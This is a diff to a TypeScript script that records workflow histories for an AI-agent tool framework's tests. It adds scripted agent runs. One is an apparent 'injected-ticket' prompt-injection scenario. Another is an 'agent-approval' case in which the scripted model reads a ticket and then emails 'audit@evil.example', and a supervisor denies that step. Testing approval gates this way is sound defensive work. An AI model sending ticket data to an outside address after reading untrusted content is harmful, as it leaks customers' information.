@@ -3,7 +3,7 @@
  * fresh dev server. Re-record only when a change to workflow code is meant to be incompatible
  * (and then guard running histories with `patched()`):
  *
- *   npx tsx test/support/record-histories.ts
+ *   npx tsx test/support/record-histories.ts [name...]
  */
 import { randomUUID } from 'node:crypto';
 import fs from 'node:fs';
@@ -18,6 +18,9 @@ import { createTools } from '../../examples/support-desk/tools';
 import { freePort, startDevServer } from '../../scripts/dev-server';
 import { pendingEscalations, resolveEscalation } from '../../workflows/escalation';
 import type { ToolRunInput } from '../../workflows/tool-run';
+import type { AgentRunInput } from '../../workflows/agent-run';
+import { manifestDigest } from '../../catalog/digest';
+import { readScript } from '../../client';
 import { createWorker } from '../../worker';
 import { SCENARIO_MANIFEST, scenarioTools } from './scenario-tools';
 
@@ -26,7 +29,9 @@ export const HISTORIES_DIR = path.resolve(__dirname, '..', 'histories');
 interface Recording {
   name: string;
   manifest: Manifest;
-  calls: ToolRunInput['calls'];
+  calls?: ToolRunInput['calls'];
+  /** An agent run instead of a fixed list of calls. */
+  agent?: Omit<AgentRunInput, 'manifest' | 'manifestDigest' | 'grants' | 'principal'>;
   grants?: string[];
   /** Acts on the running workflow (a person's decision). */
   during?: (client: Client, workflowId: string) => Promise<void>;
@@ -44,6 +49,7 @@ async function main(): Promise<void> {
   const taskQueue = 'record';
   const worker = await createWorker({ connection: native, taskQueue, manifest: { ...desk, servers: { ...desk.servers, ...flaky.servers }, tools: [...desk.tools, ...flaky.tools] }, tools: [...createTools(), ...scenarioTools(path.join(dir, 'flaky')).tools] });
 
+  const only = process.argv.slice(2);
   const recordings: Recording[] = [
     {
       name: 'plain',
@@ -90,17 +96,44 @@ async function main(): Promise<void> {
       ],
     },
     { name: 'in-doubt-failed', manifest: flaky, calls: [{ toolId: 'tool://flaky/wire', args: { account: 'acct-9', cents: 100 } }] },
+    ...['refund', 'injected-ticket'].map((name) => {
+      const script = readScript(path.resolve(__dirname, '..', '..', 'examples', 'support-desk', 'scripts', `${name}.json`));
+      return { name: `agent-${name}`, manifest: desk, agent: { prompt: script.prompt!, model: { provider: 'scripted' as const, script: script.turns } } };
+    }),
+    {
+      name: 'agent-approval',
+      manifest: { ...desk, tools: desk.tools.map((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' as const } : t)) },
+      agent: {
+        prompt: 'Handle ticket T-101.',
+        model: {
+          provider: 'scripted',
+          script: [
+            { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
+            { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } }] },
+            { final: 'done' },
+          ],
+        },
+      },
+      during: async (c, workflowId) => {
+        const handle = c.workflow.getHandle(workflowId);
+        let pending = await handle.query(pendingEscalations);
+        while (pending.length === 0) {
+          await new Promise((r) => setTimeout(r, 100));
+          pending = await handle.query(pendingEscalations);
+        }
+        await handle.executeUpdate(resolveEscalation, { args: [{ effectKey: pending[0]!.effectKey, decision: 'deny', by: 'supervisor' }] });
+      },
+    },
   ];
 
   fs.mkdirSync(HISTORIES_DIR, { recursive: true });
   await worker.runUntil(async () => {
-    for (const r of recordings) {
+    for (const r of recordings.filter((x) => only.length === 0 || only.includes(x.name))) {
       const workflowId = `history-${r.name}-${randomUUID().slice(0, 8)}`;
-      const handle = await client.workflow.start('toolRun', {
-        taskQueue,
-        workflowId,
-        args: [{ manifest: r.manifest, grants: r.grants ?? r.manifest.tools.map((t) => t.id), principal: 'agent:recorder', calls: r.calls, continueOnError: true }],
-      });
+      const grants = r.grants ?? r.manifest.tools.map((t) => t.id);
+      const handle = r.agent
+        ? await client.workflow.start('agentRun', { taskQueue, workflowId, args: [{ ...r.agent, manifest: r.manifest, manifestDigest: manifestDigest(r.manifest), grants, principal: 'agent:recorder' }] })
+        : await client.workflow.start('toolRun', { taskQueue, workflowId, args: [{ manifest: r.manifest, grants, principal: 'agent:recorder', calls: r.calls!, continueOnError: true }] });
       await r.during?.(client, workflowId);
       await handle.result();
       const history = await handle.fetchHistory();
